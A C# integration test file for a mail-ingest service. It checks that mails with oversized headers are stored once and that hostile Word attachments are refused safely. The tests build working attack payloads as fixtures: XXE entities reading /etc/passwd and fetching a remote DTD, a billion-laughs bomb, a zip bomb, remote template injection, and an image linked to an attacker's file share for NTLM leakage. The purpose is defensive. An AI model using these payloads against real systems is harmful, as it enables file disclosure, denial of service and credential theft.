using System.Text;
using MimeKit;
using Microsoft.Extensions.DependencyInjection;
using Regin.MailIngest.Intake;
using Regin.MailIngest.Parsing;
using Regin.Testing;

namespace Regin.MailIngest.Tests.Integration;

/// <summary>
/// Session 56, the mail door's keys: a mail whose header block is over the bounds is refused unparsed and keyed by its
/// bytes' hash on every path (the plain scan gave the Message-ID of a block ending within 128 kB, MimeKit's path the hash),
/// so a mail fetched twice, or again after a restart, is stored once and never read or answered twice.
/// </summary>
public sealed class MailDoor56Tests(MailServers servers) : IClassFixture<MailServers>
{
    /// <summary>Mallory's mail with <paramref name="lines"/> header lines of <paramref name="padding"/> bytes each.</summary>
    private static MimeMessage Oversized(string id, int lines, int padding)
    {
        var m = new MimeMessage();
        m.From.Add(new MailboxAddress("Mallory", "mallory.56@evil.example"));
        m.To.Add(MailboxAddress.Parse("reginproject@crpm.org"));
        m.Subject = "REGIN";
        m.MessageId = id;
        m.Body = new TextPart("plain") { Text = "[Q05] Header flood\n[Q06] Malta\n" };
        m = MailTestHost.Authenticated(m);
        for (var i = 0; i < lines; i++)
        {
            m.Headers.Add("X-Spam-Score", i + " " + new string('s', padding));
        }
        return m;
    }

    private static byte[] Bytes(MimeMessage message)
    {
        using var stream = new MemoryStream();
        message.WriteTo(stream);
        return stream.ToArray();
    }

    /// <summary>Over the line bound within 128 kB (the scan keyed it by its Message-ID before), over the byte bound, over the field bound.</summary>
    public static TheoryData<int, int> Shapes() => new() { { 2_100, 0 }, { 1_200, 120 }, { 1, 70_000 } };

    [Theory]
    [MemberData(nameof(Shapes))]
    public void An_oversized_header_gets_one_key_on_every_path(int lines, int padding)
    {
        var raw = Bytes(Oversized("over.bounds@evil.example", lines, padding));
        Assert.NotNull(HeaderBlock.Refusal(HeaderBlock.Start(new MemoryStream(raw))));
        var key = MailReader.IdentifyByParse(raw);
        Assert.StartsWith("sha256:", key.DedupKey, StringComparison.Ordinal);
        Assert.Null(key.From);
        Assert.Equal(key, MailKeyScan.TryIdentify(raw, new ParserOptions { MaxMimeDepth = MailProcessor.MaxMimeDepth }));
        Assert.Equal(key, MailReader.Identify(raw));
        using var stream = new MemoryStream(raw, writable: false);
        Assert.Equal(key, MailReader.Identify(stream));
    }

    /// <summary>
    /// The same oversized-header mail in the mailbox twice (an IMAP re-delivery), then again after the watcher is stopped and
    /// a new one started on the same database (a restart): one raw input, failed as headers_too_large, no reply (its From is
    /// never read: there is nobody known to answer), every copy moved out of the inbox.
    /// </summary>
    [Theory]
    [InlineData(TestProviders.Sqlite, 2_100, 0)]
    [InlineData(TestProviders.PostgreSql, 2_100, 0)]
    [InlineData(TestProviders.Sqlite, 1_200, 120)]
    [InlineData(TestProviders.PostgreSql, 1_200, 120)]
    public async Task An_oversized_header_fetched_twice_and_after_a_restart_is_stored_once_and_never_answered(string provider, int lines, int padding)
    {
        await using var database = await TestDatabase.CreateAsync(provider);
        var (host, user) = await ContributorPlay.StartAsync(servers, provider, database: database);
        var mail = Oversized($"{user}.over.bounds@evil.example", lines, padding);
        try
        {
            await servers.AppendAsync(user, mail, mail);
            await Eventually.UntilAsync(async () => await WatcherTests.CountsAsync(servers, user) is (0, var processed, var failed) && processed + failed == 2, 120);
        }
        finally
        {
            await host.Host.StopAsync();
            await host.DisposeAsync();
        }
        var (again, _) = await ContributorPlay.StartAsync(servers, provider, user, database);
        await using (again)
        {
            await servers.AppendAsync(user, mail);
            await Eventually.UntilAsync(async () => await WatcherTests.CountsAsync(servers, user) is (0, var processed, var failed) && processed + failed == 3, 120);
            await again.Host.StopAsync();
            var rows = await again.WithScopeAsync(sp => Task.FromResult(sp.GetRequiredService<Regin.Core.Persistence.ReginDbContext>().RawInputs
                .Where(r => r.Channel == "email").Select(r => new { r.DedupKey, r.Outcome, r.OutcomeDetail, r.Content }).ToList()));
            var row = Assert.Single(rows);
            // Kept raw as the server gave it (its bytes' hash is the key: Dovecot's copy, not our serialisation).
            Assert.Equal(MailReader.Identify(row.Content).DedupKey, row.DedupKey);
            Assert.Contains(mail.MessageId!, Encoding.ASCII.GetString(row.Content), StringComparison.Ordinal);
            Assert.Equal("failed", row.Outcome);
            Assert.Contains(HeaderBlock.TooLarge + ":", row.OutcomeDetail, StringComparison.Ordinal);
            Assert.DoesNotContain(await servers.SentRepliesAsync(), r => r.InReplyTo == mail.MessageId);
            Assert.Equal(0, await again.CountAsync(db => db.MailOutbox.Count()));
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // An attacker's Word file: a DTD (XXE, billion laughs), a zip bomb, relationships Word would fetch from outside.

    private const string Docx = "vnd.openxmlformats-officedocument.wordprocessingml.document";

    private static byte[] Filled(string title, Action<DocumentFormat.OpenXml.Packaging.WordprocessingDocument>? edit = null) =>
        AttackerRound43Tests.Word(new() { ["title"] = title, ["country"] = "Sverige" }, edit);

    /// <summary>document.xml under a DTD: <paramref name="dtd"/> before its root, <paramref name="entity"/> written into the title.</summary>
    private static byte[] WithDtd(string title, string dtd, string entity) => AttackerRound43Tests.Rewritten(Filled(title), "word/document.xml", xml =>
    {
        var declaration = xml.IndexOf("?>", StringComparison.Ordinal);
        var root = xml.IndexOf('<', declaration < 0 ? 0 : declaration + 2);
        return xml[..root] + dtd + xml[root..].Replace(title, title + " " + entity, StringComparison.Ordinal);
    });

    private const string Laughs = "<!DOCTYPE w:document [<!ENTITY a \"lollollollollollollollollollol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
        + "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>";

    /// <summary>The Word files of the attacks, by name: the first four are refused (unsafe, a zip bomb), the others are read or
    /// told damaged.</summary>
    private static byte[] AttackFile(string name) => name switch
    {
        "xxe-file" => WithDtd("Språkcafé XXE", "<!DOCTYPE w:document [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>", "&secret;"),
        "xxe-url" => WithDtd("Språkcafé XXE", "<!DOCTYPE w:document [<!ENTITY % remote SYSTEM \"http://127.0.0.1:9/xxe.dtd\"> %remote;]>", ""),
        "billion-laughs" => WithDtd("Språkcafé skratt", Laughs, "&h;"),
        "zip-bomb" => AttackerRound44Tests.WordBomb(200),
        // Remote template injection: settings.xml's attachedTemplate at a URL (Word fetches it on opening).
        "remote-template" => Filled("Språkcafé mall", d =>
        {
            var settings = d.MainDocumentPart!.DocumentSettingsPart ?? d.MainDocumentPart.AddNewPart<DocumentFormat.OpenXml.Packaging.DocumentSettingsPart>();
            settings.Settings ??= new DocumentFormat.OpenXml.Wordprocessing.Settings();
            settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://127.0.0.1:9/template.dotm"));
            settings.Settings.Save();
        }),
        // A picture linked from a file share (file:// or UNC: Windows sends the reader's NTLM hash to it).
        "linked-image" => Filled("Språkcafé bild", d => d.MainDocumentPart!.AddExternalRelationship(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("file://evil.example/share/logo.png"))),
        // Not an attack: a website typed and auto-linked by Word (a hyperlink is only followed when a reader clicks it).
        "hyperlink" => Filled("Språkcafé länk", d => d.MainDocumentPart!.AddHyperlinkRelationship(new Uri("https://www.malmo.example/sprakcafe"), true)),
        // Not an attack either: a damaged file (cut short), told as damaged.
        _ => Filled("Språkcafé trasig")[..4000],
    };

    /// <summary>A Swedish official's mail (authenticated) with the Word file of <paramref name="attack"/> attached as "REGIN mall.docx".</summary>
    private static MimeMessage AnnasMail(string attack, string text)
    {
        var m = new MimeMessage();
        m.From.Add(new MailboxAddress("Anna Berg", "anna.berg@malmo.example"));
        m.To.Add(MailboxAddress.Parse("reginproject@crpm.org"));
        m.Subject = "Mall REGIN";
        m.MessageId = $"{attack}.56@malmo.example";
        m.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = text },
            Intake.MailRound45Tests.File(AttackFile(attack), "REGIN mall.docx", "application", Docx),
        };
        return MailTestHost.Authenticated(m);
    }

    [Theory]
    [InlineData(TestProviders.Sqlite, "xxe-file", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.PostgreSql, "xxe-file", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.Sqlite, "xxe-url", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.PostgreSql, "xxe-url", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.Sqlite, "billion-laughs", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.PostgreSql, "billion-laughs", DocxAnswerReader.Unsafe)]
    [InlineData(TestProviders.Sqlite, "zip-bomb", "docx_zip_bomb")]
    [InlineData(TestProviders.PostgreSql, "zip-bomb", "docx_zip_bomb")]
    [InlineData(TestProviders.Sqlite, "damaged", "docx_invalid")]
    [InlineData(TestProviders.PostgreSql, "damaged", "docx_invalid")]
    public async Task An_unsafe_Word_file_is_refused_as_unsafe_kept_raw_and_told_in_the_senders_language(string provider, string attack, string reason)
    {
        await using var host = await MailTestHost.CreateAsync(provider: provider);
        var raw = Bytes(AnnasMail(attack, "Hej, här är mallen ifylld.\n\nMed vänliga hälsningar\nAnna Berg\nMalmö stad"));
        var result = await host.IngestAsync(raw);
        Assert.Contains($"{reason}:REGIN mall.docx", result.Detail, StringComparison.Ordinal);
        Assert.Equal(MailOutcomes.Failed, result.Outcome);
        var stored = await host.WithScopeAsync(sp => Task.FromResult(sp.GetRequiredService<Regin.Core.Persistence.ReginDbContext>().RawInputs.Single(r => r.Id == result.RawInputId)));
        Assert.Equal(raw, stored.Content);
        Assert.Contains(reason, stored.OutcomeDetail, StringComparison.Ordinal);
        var reply = Assert.Single(await host.OutboxAsync());
        Assert.Equal("sv", ContributorPlay.Language(reply));
        var body = ContributorPlay.Body(reply);
        var told = reason == "docx_invalid" ? "mail.attachment_unreadable" : "mail.attachment_unsafe";
        Assert.Contains(ContributorPlay.Message(told, "sv").Replace("{file}", "REGIN mall.docx", StringComparison.Ordinal), body, StringComparison.Ordinal);
        // Nothing expanded or fetched into what we store or say.
        Assert.DoesNotContain("root:", body, StringComparison.Ordinal);
        Assert.DoesNotContain("lollol", body, StringComparison.Ordinal);
        Assert.DoesNotContain("127.0.0.1", body, StringComparison.Ordinal);
    }

    /// <summary>
    /// A Word file with a website Word auto-linked (an external hyperlink), its template on a server or a picture linked from
    /// a share (what a Word file made on an office's computer often holds) is read as any: the reader opens no relationship,
    /// so nothing is fetched (session 56 refused the last two as unsafe; the lead reverted it: genuine files were refused).
    /// </summary>
    [Theory]
    [InlineData(TestProviders.Sqlite, "hyperlink", "Språkcafé länk")]
    [InlineData(TestProviders.PostgreSql, "hyperlink", "Språkcafé länk")]
    [InlineData(TestProviders.Sqlite, "remote-template", "Språkcafé mall")]
    [InlineData(TestProviders.PostgreSql, "remote-template", "Språkcafé mall")]
    [InlineData(TestProviders.Sqlite, "linked-image", "Språkcafé bild")]
    [InlineData(TestProviders.PostgreSql, "linked-image", "Språkcafé bild")]
    public async Task A_Word_file_with_links_outside_it_is_read_and_nothing_is_fetched(string provider, string file, string title)
    {
        await using var host = await MailTestHost.CreateAsync(provider: provider);
        var result = await host.IngestAsync(AnnasMail(file, "Hej, här är mallen ifylld.\n\nMvh\nAnna"));
        Assert.Equal(MailOutcomes.Created, result.Outcome);
        Assert.DoesNotContain("docx_", result.Detail, StringComparison.Ordinal);
        var practice = await host.PracticeAsync(result.Reference);
        Assert.Contains(title, System.Text.Json.JsonSerializer.Deserialize<string>(ContributorPlay.Answer(practice, "title")), StringComparison.Ordinal);
    }
}
